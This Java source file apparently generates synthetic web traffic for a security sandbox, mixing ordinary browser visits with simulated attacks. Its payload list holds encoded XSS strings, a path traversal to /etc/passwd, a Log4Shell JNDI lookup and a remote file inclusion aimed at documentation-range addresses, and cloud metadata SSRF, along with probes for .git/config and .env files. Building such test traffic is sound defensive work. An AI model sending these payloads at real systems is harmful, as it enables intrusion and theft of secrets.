package dev.sallyport.core.sandbox.traffic;

import java.util.List;
import java.util.SplittableRandom;
import org.jspecify.annotations.Nullable;

/**
 * One request that a visitor makes.
 *
 * @param method HTTP method
 * @param target path and query as sent
 * @param userAgent null for a client that sends none
 * @param body null for none
 * @param address where it comes from
 * @param country ISO 3166 code that belongs to the address
 */
record Visit(
        String method, String target, @Nullable String userAgent, @Nullable String body, String address, String country) {

    private static final List<String> BROWSERS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15",
            "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
            "okhttp/5.1.0");
    private static final List<String> COUNTRIES =
            List.of("US", "DE", "GB", "FR", "JP", "BR", "IN", "CA", "AU", "NL", "SE", "SG");
    private static final List<String> PAYLOADS = List.of(
            "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "name=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            "x=$%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
            "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
            "page=http%3A%2F%2F198.51.100.9%2Fshell.txt",
            "cfg=backup.bak");
    private static final List<String> PROBES = List.of("/.git/config", "/wp-login.php", "/.env", "/admin/config.ini");

    static Visit normal(SplittableRandom random, List<String> paths, Traffic.@Nullable Post post) {
        String path = paths.get(random.nextInt(paths.size()));
        boolean tenth = random.nextInt(10) == 0;
        Traffic.Post sent = tenth ? post : null;
        String target = random.nextInt(3) == 0 ? asked(path, "page=" + random.nextInt(1, 20)) : path;
        return new Visit(
                sent == null ? "GET" : "POST",
                sent == null ? target : sent.path(),
                BROWSERS.get(random.nextInt(BROWSERS.size())),
                sent == null ? null : sent.body().replace("%d", Integer.toString(random.nextInt(1, 500))),
                address(random, 400),
                "").inItsCountry();
    }

    static Visit attack(SplittableRandom random, List<String> paths) {
        String path = paths.get(random.nextInt(paths.size()));
        String from = address(random, 12);
        String browser = BROWSERS.get(random.nextInt(BROWSERS.size()));
        Visit visit = switch (random.nextInt(8)) {
            case 0 -> new Visit("GET", path, null, null, from, "");
            case 1 -> new Visit("PROPFIND", path, browser, null, from, "");
            case 2 -> new Visit("GET", PROBES.get(random.nextInt(PROBES.size())), browser, null, from, "");
            case 3 -> new Visit("POST", paths.getFirst(), browser, "{\"name\":\"" + "A".repeat(9000) + "\"}", from, "");
            default -> new Visit(
                    "GET", asked(path, PAYLOADS.get(random.nextInt(PAYLOADS.size()))), browser, null, from, "");
        };
        return visit.inItsCountry();
    }

    private static String asked(String path, String query) {
        return path + (path.contains("?") ? '&' : '?') + query;
    }

    /** An address of the documentation ranges of RFC 5737; few visitors make most of the requests. */
    private static String address(SplittableRandom random, int visitors) {
        int rank = (int) (Math.pow(visitors, random.nextDouble()) - 1);
        String[] ranges = {"192.0.2.", "198.51.100.", "203.0.113."};
        return ranges[rank % ranges.length] + (1 + rank / ranges.length % 254);
    }

    private Visit inItsCountry() {
        String country = COUNTRIES.get(Math.floorMod(address.hashCode(), COUNTRIES.size()));
        return new Visit(method, target, userAgent, body, address, country);
    }
}
